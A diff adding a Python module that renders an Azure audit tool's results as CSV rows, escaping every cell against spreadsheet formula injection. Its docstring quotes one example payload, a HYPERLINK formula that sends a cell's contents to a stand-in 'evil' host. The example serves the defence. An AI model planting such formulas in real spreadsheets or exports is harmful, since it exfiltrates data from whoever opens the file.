@@ -1,0 +1,88 @@
+"""The CSV report: one row per result, for spreadsheets and ticket imports.
+
+Every cell goes through `aciaudit.escape.csv_cell`, so a resource named
+`=HYPERLINK("http://evil/?"&A1)` is text in Excel or LibreOffice, never a formula;
+quoting is left to the csv module. Lines end with CRLF, as RFC 4180 asks.
+"""
+
+from __future__ import annotations
+
+import csv
+from collections.abc import Callable
+
+from aciaudit.escape import csv_cell
+from aciaudit.run import Run
+from checks import arm_id
+from checks.model import ESTATE_SCOPE
+
+HEADER = (
+    "check_id",
+    "severity",
+    "status",
+    "suppressed",
+    "title",
+    "resource_id",
+    "resource_name",
+    "resource_group",
+    "subscription",
+    "section",
+    "message",
+)
+
+
+class _Sink:
+    """What csv.writer needs: an object with `write(str)`."""
+
+    def __init__(self, write: Callable[[str], object]) -> None:
+        self.write = write
+
+
+def render_csv(run: Run) -> str:
+    chunks: list[str] = []
+    write_csv(run, chunks.append)
+    return "".join(chunks)
+
+
+def write_csv(run: Run, write: Callable[[str], object]) -> None:
+    buffer: list[str] = []
+    writer = csv.writer(_Sink(buffer.append), lineterminator="\r\n")
+    writer.writerow(HEADER)
+    subs = {s.subscription_id.lower(): s.label for s in run.index.subscriptions}
+    where: dict[str, tuple[str, str, str]] = {}
+    for result in run.results:
+        chk = run.check(result)
+        rid = result.resource_id
+        cells = where.get(rid)
+        if cells is None:
+            parsed = arm_id.parse(rid)
+            sub = parsed.subscription or ""
+            if rid.strip() == ESTATE_SCOPE:
+                name = "(whole estate)"
+            elif rid.rstrip("/").lower() == f"/subscriptions/{sub}".lower() and sub:
+                name = f"(subscription) {subs.get(sub.lower(), sub)}"
+            else:
+                name = parsed.name or rid
+            label = subs.get(sub.lower(), sub)
+            sub_cell = f"{label} ({sub})" if label and label != sub else sub
+            cells = where[rid] = (
+                csv_cell(name),
+                csv_cell(parsed.resource_group or ""),
+                csv_cell(sub_cell),
+            )
+        writer.writerow(
+            (
+                csv_cell(chk.id),
+                chk.severity.value,
+                result.status.value,
+                "yes" if run.suppression(result) is not None else "no",
+                csv_cell(chk.title),
+                csv_cell(rid),
+                *cells,
+                csv_cell(chk.section),
+                csv_cell(result.message),
+            )
+        )
+        if len(buffer) >= 4096:
+            write("".join(buffer))
+            buffer.clear()
+    write("".join(buffer))
